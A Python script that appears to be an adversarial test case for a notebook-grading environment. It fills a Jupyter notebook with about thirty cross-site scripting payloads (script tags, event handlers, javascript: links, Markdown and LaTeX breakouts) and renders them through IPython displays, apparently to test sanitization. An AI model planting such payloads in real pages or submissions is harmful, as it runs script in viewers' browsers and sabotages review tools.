# Tries: to run script in the pages that show its work.
# Earns: nothing
# Goal: sabotage
import json

SCRIPT = "<script>alert(31337)</script>"
HOSTILE = [
    SCRIPT,
    "<SCRIPT SRC=data:,alert(31337)></SCRIPT>",
    "<img src=x onerror=alert(31337)>",
    "<a href='javascript:alert(31337)'>x</a>",
    "<a href='  java\tscript:alert(31337)'>x</a>",
    "<svg onload=alert(31337)></svg>",
    "<iframe srcdoc='<script>alert(31337)</script>'></iframe>",
    "<style>@import 'javascript:alert(31337)'</style>",
    "<form action='javascript:alert(31337)'><button formaction='javascript:alert(31337)'>x</button></form>",
    "<details open ontoggle=alert(31337)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(31337)></style></mglyph></table></mtext></math>",
    "[click](javascript:alert(31337))",
    "[click](<javascript:alert(31337)>)",
    "[click](JaVaScRiPt:alert(31337))",
    "[click](java&#115;cript:alert(31337))",
    "[click](data:text/html,<script>alert(31337)</script>)",
    "[click][here]\n\n[here]: javascript:alert(31337)",
    "<javascript:alert(31337)>",
    "![x](javascript:alert(31337))",
    '![x](x" onerror="alert(31337))',
    "![x](x 'y\" onerror=alert(31337) z=\"')",
    "[x](x 'y\" onclick=alert(31337) z=\"')",
    "`</code>" + SCRIPT + "`",
    "```\n</pre>" + SCRIPT + "\n```",
    '```html" onclick="alert(31337)\n```',
    "$</script>" + SCRIPT + "$",
    "$$\n" + SCRIPT + "\n$$",
    "\\begin{equation}\n" + SCRIPT + "\n\\end{equation}",
    "&lt;script&gt;alert(31337)&lt;/script&gt;",
    "&#60;script&#62;alert(31337)&#60;/script&#62;",
    "<div><p title='</p>" + SCRIPT + "'>x</div>",
    "<b\n<script>alert(31337)</script>",
    "# head <img src=x onerror=alert(31337)>",
    "| a |\n|---|\n| " + SCRIPT + " |",
]


def hand_in(folder, notebook):
    for text in HOSTILE:
        notebook["cells"].append({"cell_type": "markdown", "source": text, "metadata": {}})
        notebook["cells"].append({"cell_type": "raw", "source": text, "metadata": {"format": "text/html"}})
    code = (
        "from IPython.display import HTML, Markdown, Javascript, Latex, display\n"
        f"hostile = {HOSTILE!r}\n"
        "for text in hostile:\n"
        "    for kind in (HTML, Markdown, Javascript, Latex):\n        display(kind(text))\n"
        "    display({'image/png': text, 'image/svg+xml': text, 'application/javascript': text}, raw=True)\n"
        "    print(text)\n"
        f"raise ValueError({SCRIPT!r})"
    )
    notebook["cells"].append({"cell_type": "code", "source": code, "metadata": {}, "outputs": []})
    (folder / "arena.ipynb").write_text(json.dumps(notebook))
